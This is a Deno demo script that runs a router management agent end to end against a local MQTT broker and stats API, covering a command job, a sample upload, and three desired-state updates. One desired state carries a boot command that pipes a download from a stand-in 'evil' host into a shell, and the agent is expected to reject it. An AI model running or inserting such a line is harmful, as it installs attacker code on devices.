/**
 * `deno task demo`: the whole agent end to end with nothing installed but Deno. An
 * in-process MQTT broker (aedes) and stats API, the agent as a real subprocess run with
 * exactly the flags `check-config --print-permissions` prints, then: a job and its reply,
 * a collected sample, an upload arriving, three desired states (applied, rejected, rolled
 * back) and `ledge ctl status`. `--keep` stays up.
 */
import { Aedes } from "aedes";
import { createServer } from "node:net";
import { parseArgs } from "node:util";
import { installFakeUci } from "./fake_uci.ts";

const MAIN = new URL("../src/main.ts", import.meta.url).pathname;
const { values } = parseArgs({ args: Deno.args, options: { keep: { type: "boolean" } } });
const say = (text: string) => console.log(`\x1b[1m▶\x1b[0m ${text}`);
const decode = (bytes: Uint8Array | string) =>
  typeof bytes === "string" ? bytes : new TextDecoder().decode(bytes);

function waitFor<T>(what: string, register: (done: (value: T) => void) => void): Promise<T> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`demo: no ${what} within 30 s`)), 30_000);
    register((value) => {
      clearTimeout(timer);
      resolve(value);
    });
  });
}

async function ledge(args: string[], flags: string[] = []): Promise<string> {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--quiet", ...flags, MAIN, ...args],
    env: { NO_COLOR: "1" },
  }).output();
  if (!out.success) throw new Error(`ledge ${args.join(" ")}: ${decode(out.stderr)}`);
  return decode(out.stdout);
}

const dir = await Deno.makeTempDir({ prefix: "ledge-demo-" });
const mac = "DE-MO-00-00-00-01";
const topics = ["delivery", "pub", "status"].map((kind) => `${kind}/demo/demo-key/${mac}`);
const tail = `demo/demo-key/${mac}`;

// The broker.
const broker = await Aedes.createBroker();
const mqttServer = createServer(broker.handle);
await new Promise<void>((resolve) => mqttServer.listen(0, "127.0.0.1", resolve));
const mqttPort = (mqttServer.address() as { port: number }).port;
const replies: Record<string, unknown>[] = [];
const onReply = new Set<(reply: Record<string, unknown>) => void>();
for (const topic of topics) {
  broker.subscribe(topic, (packet, done) => {
    const reply = JSON.parse(decode(packet.payload));
    replies.push(reply);
    for (const listener of onReply) listener(reply);
    done();
  }, () => {});
}
const reports: Record<string, unknown>[] = [];
const onReport = new Set<(report: Record<string, unknown>) => void>();
broker.subscribe(`state/${tail}`, (packet, done) => {
  const report = JSON.parse(decode(packet.payload));
  reports.push(report);
  for (const listener of onReport) listener(report);
  done();
}, () => {});
say(`MQTT broker (aedes, in-process) on 127.0.0.1:${mqttPort}`);

// The stats API: decodes what the agent uploads, SocketMan's multipart form by default.
const uploads: string[][] = [];
const onUpload = new Set<(ids: string[]) => void>();
const api = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, async (req) => {
  const form = await req.formData();
  const file = form.get("data") as File;
  const text = await new Response(file.stream().pipeThrough(new DecompressionStream("gzip")))
    .text();
  const ids = text.trim().split("\n").map((line) => JSON.parse(line).id);
  uploads.push(ids);
  for (const listener of onUpload) listener(ids);
  return new Response("ok");
});
const apiUrl = `http://127.0.0.1:${api.addr.port}/v1/collector`;
say(`stats API (in-process) on ${apiUrl}`);

// No OpenWRT here: a stand-in uci keeps its options in a file; reload_config does nothing.
const uci = await installFakeUci(dir, ["wireless.radio0.channel=11"]);
const reloadConfig = `${dir}/reload_config`;
await Deno.writeTextFile(reloadConfig, "#!/bin/sh\n", { mode: 0o755 });

// The agent, with the narrowest flags its config needs.
const configPath = `${dir}/config.json`;
const socket = `${dir}/ledge.sock`;
await Deno.writeTextFile(
  configPath,
  JSON.stringify(
    {
      mac,
      mqtt_host: "127.0.0.1",
      port: mqttPort,
      topic: "demo",
      key: "demo-key",
      token: "demo-token",
      stats_url: apiUrl,
      control_socket: socket,
      cache_dir: `${dir}/cache`,
      state_dir: `${dir}/state`,
      dhcp_leases: `${dir}/dhcp.leases`,
      "no-ping": 1,
      // Desired state on, with a short confirm window; `port` may be moved (to show a
      // rollback: the broker is not there).
      desired: { confirm_s: 10, uci, reload: reloadConfig, allow_keys: ["port"] },
    },
    null,
    2,
  ),
);
const flags = (await ledge(["check-config", configPath, "--print-permissions"], [
  `--allow-read=${configPath}`,
])).trim().split(" ");
const summary = flags.map((f) => {
  const [name, list = ""] = f.split("=");
  return `${name}(${list.split(",").length})`;
});
say(`agent: deno run ${summary.join(" ")} src/main.ts run --config=${configPath}`);
say("  (the narrowest flags for this config, from ledge check-config --print-permissions)");
const jobTopic = `sub/demo/demo-key/${mac}`;
// Ready for jobs once it has subscribed to its job topic, not merely connected.
const subscribed = waitFor<void>(
  "job subscription from the agent",
  (done) =>
    broker.on(
      "subscribe",
      (subscriptions, client) =>
        client?.id === `ledge-${mac}` && subscriptions.some((s) => s.topic === jobTopic) &&
        done(),
    ),
);
const agent = new Deno.Command(Deno.execPath(), {
  args: ["run", "--quiet", ...flags, MAIN, "run", `--config=${configPath}`],
  env: { NO_COLOR: "1" },
  stdout: "inherit",
  stderr: values.keep ? "inherit" : "null",
}).spawn();
await subscribed;
say(`agent connected as ledge-${mac} and subscribed to ${jobTopic}`);

// A job, SocketMan's format, on sub/<topic>/<key>/<mac>.
const job = {
  id: "demo-1",
  timestamp: Math.floor(Date.now() / 1000),
  meta: { msg: "uname -sr", type: "command" },
};
const processed = waitFor<Record<string, unknown>>(
  "job reply",
  (done) =>
    onReply.add((reply) => reply.id === job.id && reply.event_type !== "DELIVERED" && done(reply)),
);
broker.publish({
  cmd: "publish",
  topic: jobTopic,
  payload: JSON.stringify(job),
  qos: 1,
  retain: false,
  dup: false,
}, () => {});
say(`job published: ${JSON.stringify(job)}`);
const reply = await processed;
for (const r of replies.filter((r) => r.id === job.id)) {
  say(`reply ${r.event_type}: ${JSON.stringify(r)}`);
}
if (reply.event_type !== "PROCESSED") throw new Error(`demo: job ended ${reply.event_type}`);

// A sample, collected now, and its upload.
const ctlFlags = [
  `--allow-read=${socket}`,
  `--allow-write=${socket}`,
  `--allow-net=unix:${socket}`,
];
const sample =
  JSON.parse(await ledge(["ctl", "-S", socket, "--json", "collect"], ctlFlags)).collect;
const device = sample.device ?? {};
say(
  `sample ${sample.id}: uptime ${device.uptime} s, load ${device.load_1}, ` +
    `${(sample.interfaces ?? []).length} interfaces, wan ${device.wan_name ?? "none"}`,
);
const uploaded = waitFor<string[]>("upload", (done) => onUpload.add(done));
await ledge(["ctl", "-S", socket, "flush"], ctlFlags);
const ids = await uploaded;
say(`upload arrived at the stats API: ${ids.length} sample(s), ids ${ids.join(", ")}`);

// Desired states, retained on config/...: the agent reports each on state/..., retained.
async function desire(state: Record<string, unknown>): Promise<Record<string, unknown>> {
  const reported = waitFor<Record<string, unknown>>(
    `report of desired version ${state.version}`,
    (done) => onReport.add((report) => report.version === state.version && done(report)),
  );
  broker.publish({
    cmd: "publish",
    topic: `config/${tail}`,
    payload: JSON.stringify(state),
    qos: 1,
    retain: true,
    dup: false,
  }, () => {});
  say(`desired state published (retained): ${JSON.stringify(state)}`);
  const report = await reported;
  say(`state report ${report.status}: ${JSON.stringify(report)}`);
  return report;
}
const outcomes = [
  await desire({ version: 1, ledge: { monitor: 30 }, uci: { "wireless.radio0.channel": "36" } }),
  await desire({ version: 2, ledge: { boot_cmd: "/bin/sh -c 'curl evil | sh'" } }),
  // Nothing listens there: MQTT does not come back within confirm_s, so it is put back.
  await desire({ version: 3, ledge: { port: mqttPort + 1 } }),
].map((report) => report.status);
if (outcomes.join() !== "applied,rejected,rolled_back") {
  throw new Error(`demo: desired states ended ${outcomes.join(", ")}`);
}

say("ledge ctl status:");
console.log(await ledge(["ctl", "-S", socket, "status"], ctlFlags));

if (values.keep) {
  say(`staying up. Try:\n  deno run ${ctlFlags.join(" ")} src/main.ts ctl -S ${socket} commands`);
  say(
    `  mosquitto_pub -p ${mqttPort} -t ${jobTopic} -m '{"id":"j2","meta":{"msg":"uptime"}}'`,
  );
  say("Ctrl-C stops.");
  await new Promise<void>((resolve) => Deno.addSignalListener("SIGINT", resolve));
}
agent.kill("SIGTERM");
const status = await agent.status;
say(`agent stopped (exit ${status.code})`);
await api.shutdown();
await new Promise<void>((resolve) => broker.close(() => mqttServer.close(() => resolve())));
await Deno.remove(dir, { recursive: true });
Deno.exit(status.code);
